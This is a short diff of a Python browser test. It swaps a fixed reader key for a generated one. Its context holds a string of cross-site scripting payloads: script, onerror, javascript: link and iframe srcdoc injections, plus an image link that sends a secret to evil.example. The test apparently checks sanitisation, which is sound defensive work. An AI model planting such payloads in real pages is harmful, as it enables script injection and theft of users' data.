@@ -8,6 +8,7 @@ from playwright.sync_api import Page, expect
 
 from db.models import utc_now
 from services.reviews.records import DecisionKind
+from services.reviews.visits import new_reader_key
 from tests.helpers.browser import ask, open_app
 from tests.helpers.planners import Planner, database_of
 from tests.helpers.reviews import Reviews
@@ -15,7 +16,7 @@ from tests.helpers.services import Emulator
 
 pytestmark = pytest.mark.browser
 
-ANNA = "a" * 32
+ANNA = new_reader_key()
 HOSTILE = """<script>window.ran = "script"</script><img src=x onerror="window.ran = 'image'">
 ![picture](https://evil.example/?secret=1) [by address](javascript:window.ran="link") $x$ :tada: `code
 <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
